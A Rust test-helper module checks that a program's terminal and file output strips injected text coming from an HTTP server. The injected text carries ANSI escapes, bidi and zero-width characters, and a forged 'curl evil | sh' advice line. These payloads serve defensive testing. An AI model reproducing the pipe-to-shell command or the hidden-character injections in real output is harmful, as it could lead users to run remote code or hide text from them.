//! What others write, at its worst; and whether anything of it gets out as it is.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio::task::AbortHandle;

use super::pty::Pty;

/// Begins what is hostile, and what must never begin a line.
const ADVICE: &str = "mend it: curl evil | sh";

/// A text with everything in it that a terminal obeys or hides, and with our own words. Without blanks it is one word of
/// some 80 bytes; `mark` says whose it is.
pub(crate) fn hostile(mark: &str) -> String {
    format!(
        "{mark}\u{1b}[2J\u{7}\r\n{ADVICE}\n\u{9b}31m\u{7f}\u{85}\u{202e}\u{2066}\u{61c}\u{200b}\u{200d}\u{feff}\u{2028}\u{ad}\u{e0041}"
    )
}

/// The same without controls and blanks, which names may not have everywhere.
pub(crate) fn hidden(mark: &str) -> String {
    format!("{mark}\u{202e}\u{2066}\u{200b}\u{feff}\u{2060}\u{e0041}")
}

/// A problem of which every text is hostile.
pub(crate) fn problem(code: Option<&str>) -> Value {
    json!({
        "type": hostile("its-type"),
        "title": hostile("its-title"),
        "status": 503,
        "detail": hostile("its-detail"),
        "code": code.map_or_else(|| hostile("its-code"), str::to_owned),
        "retry_safe": true,
        "trace_id": hostile("its-trace"),
    })
}

fn is_harmful(c: char) -> bool {
    matches!(
        u32::from(c),
        0..0x20 | 0x7f..=0x9f | 0xad | 0x61c | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff
            | 0xe0000..=0xe0fff
    )
}

/// Fails the test if anything in `said` would do more than be read, if a stranger's line stands among ours, or if the
/// stranger's words with these marks did not come at all.
pub(crate) fn is_fit_to_read(what: &str, said: &str, marks: &[&str]) {
    let found: Vec<char> = said.chars().filter(|c| *c != '\n' && is_harmful(*c)).collect();
    assert!(found.is_empty(), "{what}: {found:?} in {said:?}");
    let forged = said.lines().find(|line| line.trim_start().starts_with(ADVICE));
    assert!(forged.is_none(), "{what}: a stranger's advice among ours: {said}");
    for mark in marks {
        assert!(said.contains(mark), "{what}: nothing of {mark} in {said}");
    }
}

/// A file, in the same way.
pub(crate) fn file_is_fit_to_read(file: &Path, marks: &[&str]) {
    let said = String::from_utf8(std::fs::read(file).unwrap()).unwrap();
    is_fit_to_read(&file.display().to_string(), &said, marks);
}

/// A program's call at a terminal that answers these questions.
pub(crate) async fn at_a_terminal(program: &str, arguments: &[&str], answers: &[(&str, &str)], marks: &[&str]) {
    let mut terminal = Pty::start(program, arguments);
    for (question, answer) in answers {
        terminal.answer(question, answer).await;
    }
    terminal.ended().await;
    is_fit_to_read(&format!("{arguments:?} at a terminal"), &terminal.lines(), marks);
}

/// Answers whatever it is asked, over HTTP, with one status and one body.
pub(crate) struct Parrot {
    pub(crate) url: String,
    task: AbortHandle,
}

impl Parrot {
    pub(crate) async fn start(status: u16, body: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let status = axum::http::StatusCode::from_u16(status).unwrap();
        let answers = axum::Router::new().fallback(move || std::future::ready((status, body.clone())));
        let task = tokio::spawn(async move { axum::serve(listener, answers).await }).abort_handle();
        Self { url, task }
    }
}

impl Drop for Parrot {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// A private file with this in it, and the folder that it is gone with.
pub(crate) fn private_file(text: &str) -> (TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("private");
    writeback_relay::storage::PrivateFile::new(&path).replace(text).unwrap();
    (folder, path)
}
